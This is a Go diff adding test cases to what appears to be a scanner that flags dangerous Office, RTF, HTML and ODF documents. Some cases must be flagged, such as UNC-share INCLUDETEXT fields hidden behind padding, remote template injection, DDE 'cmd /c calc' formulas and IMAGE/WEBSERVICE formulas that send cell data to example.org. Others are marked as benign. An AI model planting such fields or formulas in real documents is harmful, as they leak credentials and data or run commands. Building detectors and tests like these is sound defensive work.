@@ -97,6 +97,17 @@ func fieldTricks(runs, fine addOffice) {
 	runs("dde-behind-fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)+code("DDE cmd")))
 	fine("fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)))
 	fine("field-that-has-no-end", docxType, inText(mark("begin")+`<w:r><w:instrText> PAGE </w:instrText></w:r>`))
+	long := strings.Repeat(" ", 600)
+	runs("text-from-a-share-behind-blanks", docxType, inText(code(`INCLUDETEXT `+long+`"\\\\example.org\\s\\a.docx"`)))
+	runs("text-from-a-share-behind-switches", docxType, inText(code(`INCLUDETEXT `+strings.Repeat(`\* MERGEFORMAT `, 60)+`"\\\\example.org\\s\\a.docx"`)))
+	runs("object-from-a-share-behind-blanks", docxType, inText(code(`LINK `+long, long+`Word.Document.8 "\\\\example.org\\s\\a.docx" \a`)))
+	runs("order-as-a-link-behind-blanks", docxType, inText(code(`HYPERLINK`+long+`"search-ms:query=x"`)))
+	runs("text-from-a-share-by-a-simple-field-behind-blanks", docxType, inText(`<w:fldSimple w:instr="INCLUDETEXT `+long+`&quot;\\example.org\s\a.docx&quot;"/>`))
+	runs("text-that-another-field-names", docxType, inText(mark("begin")+`<w:r><w:instrText>INCLUDETEXT "</w:instrText></w:r>`+mark("begin")+`<w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r>`+mark("end")+`<w:r><w:instrText>"</w:instrText></w:r>`+mark("end")))
+	runs("picture-from-a-share-by-a-field", docxType, inText(code(`INCLUDEPICTURE "\\\\example.org\\s\\a.png" \d`)))
+	fine("text-that-another-field-names-in-a-folder", docxType, inText(code(`INCLUDETEXT "`, code(`FILENAME \p`), `\\..\\a.docx"`)))
+	fine("link-of-1800-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 1800)+`" \t "_blank"`)))
+	fine("link-of-5000-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 5000)+`"`)))
 	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
 }
 
@@ -128,6 +139,9 @@ func relationshipTricks(runs, fine addOffice) {
 	runs("text-of-word-called-a-drawing", docxType, parts{"word/a.vml": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
 	runs("chart-whose-object-is-on-a-share", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", `file:///\\example.org\a.xlsx!`)})
 
+	runs("template-as-the-kernel-names-it", docxType, relTag(`Id="a"`+kind+` Target="\??\UNC\example.org\s\a.dotm" TargetMode="External"`))
+	runs("template-on-a-share-behind-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost//example.org/s/a.dotm" TargetMode="External"`))
+	fine("template-of-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost/C:/a.dotm" TargetMode="External"`))
 	fine("template-on-a-mac", docxType, relTag(`Id="a"`+kind+` Target="file:////Users/ann/Library/Letter.dotx" TargetMode="External"`))
 	fine("template-on-an-old-mac", docxType, relTag(`Id="a"`+kind+` Target="Macintosh%20HD:Users:ann:Letter.dotx" TargetMode="External"`))
 	fine("chart-whose-workbook-is-on-the-web", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", "https://example.org/Book1.xlsx!")})
@@ -147,12 +161,21 @@ func chunkTricks(runs, fine addOffice) {
 	runs("rtf-with-a-text-from-the-web", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT "http://example.org/a.docx"}}`))
 	runs("rtf-with-a-picture-from-a-share", docxType, rtf(`{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\example.org\\\\a.png" \\d}}`))
 	runs("rtf-with-an-object", docxType, rtf(`{\object\objemb{\*\objclass Package}{\*\objdata 0105}}`))
+	runs("rtf-with-a-text-behind-blanks", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT `+strings.Repeat(" ", 600)+`"http://example.org/a.doc"}}`))
 	runs("rtf-called-a-picture", docxType, parts{"word/media/image1.png": `{\rtf1{\object\objautlink}}`})
 	page := "<html><script>alert(1)</script></html>"
 	runs("mail-with-a-script-in-base64", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(page), 20)))
 	runs("mail-with-a-script-in-pieces", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html>\n--x\n<scr=\nipt>=3D</script>"))
 	runs("page-with-a-field", docxType, chunk("a.html", "text/html", `<html><!--[if supportFields]><span style='mso-element:field-begin'></span><span style='mso-spacerun:yes'> </span>DDE cmd<![endif]--></html>`))
 	runs("page-with-a-field-as-a-style", docxType, chunk("a.html", "text/html", `<html><span style='mso-field-code:"DDE cmd"'>x</span></html>`))
+	open := func(inner string) parts {
+		return chunk("a.html", "text/html", `<html><body><img src="x">`+inner+`</body></html>`)
+	}
+	runs("page-with-an-open-tag-and-a-frame", docxType, open(`<iframe src="http://example.org/"></iframe>`))
+	runs("page-with-an-open-tag-and-an-object", docxType, open(`<object data="a"></object>`))
+	runs("page-with-an-open-tag-and-a-field", docxType, open(`<span style='mso-element:field-begin'></span> DDE cmd`))
+	runs("page-with-an-open-tag-and-a-frame-far-down", docxType, chunk("a.html", "text/html", `<html><body><img src="x">`+strings.Repeat("<p>x</p>", 3000)+`<iframe src="http://example.org/"></iframe></body></html>`))
+	fine("page-with-an-open-tag", docxType, chunk("a.html", "text/html", `<html><body><img src="x"><br><p>x</body></html>`))
 	fine("page-with-a-field-of-a-link", docxType, chunk("a.html", "text/html", `<html><span style='mso-element:field-begin'></span> HYPERLINK "https://example.org"</html>`))
 	fine("rtf-of-a-letter", docxType, rtf(`{\fonttbl{\f0 Arial;}}{\*\template C:\\Users\\a\\Normal.dotm}{\field{\*\fldinst HYPERLINK "https://example.org"}{\fldrslt here}} DDEAUTO is a field.`))
 	fine("mail-with-a-picture", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html><a href=3D\"https://example.org\">x</a>\n--x\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(strings.Repeat("\x89PNG", 90)), 76)+"\n--x--\n"))
@@ -177,6 +200,14 @@ func formulaTricks(runs, fine addOffice) {
 	runs("picture-that-sends-cells", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/?"&amp;A1)`))
 	runs("dde-formula-around-an-element", xlsxType, formulaCell(`<z:instrText xmlns:z="urn:z"/>cmd|'/c calc'!A0`))
 	runs("dde-formula-behind-a-column", xlsxType, formulaCell(`SUM(T['#a])+cmd|'/c calc'!A0`))
+	runs("picture-whose-address-is-in-a-cell", xlsxType, formulaCell(`_xlfn.IMAGE(B1)`))
+	runs("picture-whose-address-is-a-name", xlsxType, formulaCell(`_xlfn.IMAGE(x)`))
+	runs("picture-whose-address-begins-with-nothing", xlsxType, formulaCell(`_xlfn.IMAGE(""&amp;"https://example.org/"&amp;A1)`))
+	runs("picture-whose-address-is-long", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/`+strings.Repeat("a", 600)+`"&amp;A1)`))
+	runs("formula-that-hands-on-what-sends-cells", xlsxType, formulaCell(`_xlfn.MAP(B1:B9,_xleta.WEBSERVICE)`))
+	runs("formula-that-calls-what-sends-cells", xlsxType, formulaCell(`_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("https://example.org/"&amp;B1))`))
+	fine("picture-of-a-constant", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/a.png","a &amp; b (c)",1)`))
+	fine("formula-with-names-of-functions", xlsxType, formulaCell(`IF(A1="WEBSERVICE",SUM(ImportData),Webservice!A1)`))
 	fine("pictures-of-one-name-but-for-case", xlsxType, parts{"xl/media/a.png": "x", "xl/media/a.PNG": "x"})
 	fine("formulas-of-text", xlsxType, formulaCell(`"call (me) "&amp;'my "call(2)" sheet'!A1&amp;HYPERLINK("https://example.org/?q="&amp;A2,"RTD(1)")`))
 	fine("formula-of-google", xlsxType, formulaCell(`IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.org"",""A1"")"),"1")`))
@@ -191,6 +222,7 @@ func odfTricks(runs, fine addOffice) {
 	runs("dde-beside-own", odsType, body(odsType, `<office:dde-source xmlns:z="urn:z" z:dde-application="soffice" office:dde-application="cmd"/>`))
 	runs("dde-formula-beside-own", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;1&quot;)&amp;&quot;soffice&quot;"/>`))
 	runs("formula-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.org/&quot;&amp;[.A1])"/>`))
+	runs("formula-of-excel-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://example.org/&quot;)"/>`))
 	runs("key-that-starts-a-macro", odtType, parts{"Configurations2/accelerator/current.xml": `<accel:acceleratorlist xmlns:accel="a" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item xlink:href="` + href + `"/></accel:acceleratorlist>`})
 	fine("dde-formula-to-itself", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"/>`))
 	fine("section-from-a-neighbour", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="../terms.odt"/></text:section>`))
@@ -204,6 +236,8 @@ func boundTricks() []Case {
 		officeCase("name-of-5000-bytes-in-types", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/`+long+`" ContentType="x"/>`)}),
 		officeCase("type-of-5000-bytes", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/a" ContentType="`+long+`"/>`)}),
 		officeCase("document-named-by-5000-bytes", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", long)}),
+		officeCase("rtf-with-bytes-beyond-its-end", docxType, airlock.Uninspectable, rtf(`{\*\x\bin4294967297 a}{\object\objautlink{\*\objdata 00}}`)),
+		officeCase("text-of-a-field-of-5000-bytes", docxType, airlock.Uninspectable, inText(code(`INCLUDETEXT "`+strings.Repeat("a", 5000)+`.docx"`))),
 		officeCase("document-that-is-rtf", docxType, airlock.Malformed, parts{"word/document.xml": `{\rtf1 hello}`}),
 		officeCase("document-that-is-an-archive", docxType, airlock.Malformed, parts{"word/document.xml": string(goZip("a", "b"))}),
 		officeCase("document-that-is-of-a-mac", docxType, airlock.Malformed, parts{"word/document.xml": "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "}),
